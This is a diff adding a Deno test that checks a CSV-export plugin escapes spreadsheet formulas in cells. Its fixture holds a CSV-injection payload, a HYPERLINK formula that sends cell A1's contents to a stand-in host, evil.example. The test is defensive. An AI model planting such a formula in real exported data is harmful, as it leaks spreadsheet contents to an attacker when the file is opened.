@@ -102,3 +102,37 @@ Deno.test("csv-export: a key in two chunks gives one row (the first chunk's); un
     await Deno.remove(dataDir, { recursive: true });
   }
 });
+
+Deno.test("csv-export: a cell a spreadsheet would run as a formula is written as text", async () => {
+  const evil = [{
+    key: "e.com",
+    domain: "e.com",
+    name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    phone: "+1 555 0100",
+    lead: true,
+  }];
+  const cases: [boolean | undefined, string][] = [
+    [undefined, `'${evil[0].name}`],
+    [false, evil[0].name],
+  ];
+  for (const [escapeFormulas, name] of cases) {
+    const dataDir = await Deno.makeTempDir();
+    try {
+      await runPlugin({
+        dir,
+        dataDir,
+        config: {
+          columns: ["name", "phone"],
+          ...(escapeFormulas === undefined ? {} : { escapeFormulas }),
+        },
+        items: evil,
+      });
+      const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
+      const cell = name.replaceAll('"', '""');
+      const phone = escapeFormulas === false ? "+1 555 0100" : "'+1 555 0100";
+      assert.equal(text, `name,phone\r\n"${cell}",${phone}\r\n`, String(escapeFormulas));
+    } finally {
+      await Deno.remove(dataDir, { recursive: true });
+    }
+  }
+});
